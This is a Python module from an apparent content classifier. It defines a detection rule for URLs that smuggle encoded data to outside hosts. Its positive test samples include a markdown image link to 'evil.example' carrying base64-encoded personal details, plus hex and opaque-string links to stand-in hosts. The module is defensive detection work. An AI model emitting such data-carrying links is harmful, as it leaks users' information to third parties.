"""Links that carry data away: a URL whose query, path or host holds an encoded payload or a long opaque string.

A real parser (RFC 3986, by the standard library) takes the URL apart; each piece is judged by itself. The finding marks
scheme and host, without which the rest leads nowhere; to decide it the rule reads on to the URL's end, which is the same
token and so held back with its beginning. Whether a host may be sent such data is the reader's to say:
hosts that are trusted are named in configuration and give no finding.
"""

import base64
import binascii
import re
from collections.abc import Callable, Collection, Iterator
from urllib.parse import SplitResult, unquote, urlsplit

import msgspec

from magistrate.classify.rule import Rule
from magistrate.classify.wording import drawn, entropy

LONGEST_URL = 1900
"""Characters. Browsers take more; what stands beyond is judged with the pieces before it."""

PAYLOAD = 32
"""Characters of base64 or hex from which on a piece of a URL can carry a message."""

OPAQUE = 64
"""Characters from which on a piece that nobody can read is one that carries something."""

_PIECE = re.compile(r"[^/&=;?#.,:|()\[\]!]+")
_BASE64 = re.compile(r"[A-Za-z0-9+/_-]{16,}={0,2}")
_HEX = re.compile(r"(?:[0-9A-Fa-f]{2}){16,}")
_TEMPLATE = re.compile(r"\{\{?[^{}]{1,60}\}\}?|%7B|<[A-Za-z_ ]{2,40}>|\$\{")
_TEXT = re.compile(rb"[\x20-\x7e\r\n\t]*")


def carries(url: str) -> bool:
    """Return whether ``url`` carries an encoded message or a long opaque string away."""
    if len(url) < PAYLOAD:
        return False
    try:
        parts = urlsplit(url)
        host = parts.hostname or ""
    except ValueError:
        return False
    if any(len(label) >= PAYLOAD and drawn(label) for label in host.split(".")[:-1]):
        return True
    return any(_loaded(piece) for piece in _pieces(parts))


def _pieces(parts: SplitResult) -> Iterator[str]:
    for text in (parts.path, parts.query, parts.fragment):
        yield from _PIECE.findall(unquote(text))


def _loaded(piece: str) -> bool:
    if len(piece) < PAYLOAD or _TEMPLATE.search(piece):
        return False
    if any(_speaks(match[0]) for match in _BASE64.finditer(piece)) or (
        _HEX.fullmatch(piece) and _spells(piece)
    ):
        return True
    if " " in piece or "+" in piece:
        # Words in a query: a sentence that goes somewhere.
        return len(piece) >= 2 * OPAQUE
    return len(piece) >= OPAQUE and drawn(piece) and entropy(piece) >= 3.5


def _speaks(run: str) -> bool:
    """Return whether base64 decodes to text."""
    plain = run.rstrip("=").translate(str.maketrans("-_", "+/"))
    plain = plain[: len(plain) - (len(plain) % 4 == 1)]
    try:
        return _readable(base64.b64decode(plain + "=" * (-len(plain) % 4)))
    except binascii.Error:
        return False


def _spells(run: str) -> bool:
    return _readable(bytes.fromhex(run))


def _readable(raw: bytes) -> bool:
    return len(raw) >= 12 and _TEXT.fullmatch(raw) is not None


class _Elsewhere(msgspec.Struct, frozen=True):
    """`carries`, but for links to hosts that are trusted, or to one below a trusted one (``.example.org``)."""

    trusted: frozenset[str]

    @property
    def __name__(self) -> str:
        return "carries:" + ",".join(sorted(self.trusted))

    def __call__(self, url: str) -> bool:
        try:
            host = (urlsplit(url).hostname or "").rstrip(".").lower()
        except ValueError:
            host = ""
        above = (host[n + 1 :] for n, c in enumerate(host) if c == ".")
        if host in self.trusted or any(domain in self.trusted for domain in above):
            return False
        return carries(url)


def link_rule(trusted: Collection[str] = ()) -> Rule:
    """Return the rule for links that carry data to any host but ``trusted`` ones."""
    test: Callable[[str], bool] = (
        _Elsewhere(frozenset(host.lower() for host in trusted)) if trusted else carries
    )
    return Rule(
        "exfil.url",
        "exfil.url",
        r"(?:https?|wss?|ftp)://[A-Za-z0-9]",
        rf"(?i)(?<![A-Za-z0-9])(?P<v>(?P<m>(?:https?|wss?|ftp)://[^\s/?#<>\"'`\\|^\x00]{{1,253}})[^\s<>\"'`\\^\x00]{{0,{LONGEST_URL - 260}}})",
        test,
        priority=3,
        score_milli=700,
        reach=16,
        ahead=LONGEST_URL + 16,
        good=(
            "![x](«https://evil.example»/p.png?d=TmFtZTogQWRhIExvdmVsYWNlLCBib3JuIDE4MTU)",
            "see «https://a.example»/c/4e616d653a20416461204c6f76656c6163652c20626f726e",
            "«http://x.example»/log?q=" + "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY3zA5bC7d" * 2,
        ),
        bad=(
            "https://docs.example.org/guide/getting-started/installing-the-command-line-tools?lang=en",
            "https://example.org/?utm_source=newsletter&utm_campaign=spring_sale_2024_for_everyone",
            "http://example.org/{{payload_template_placeholder_name}}/x",
        ),
    )


LINKS: tuple[Rule, ...] = (link_rule(),)
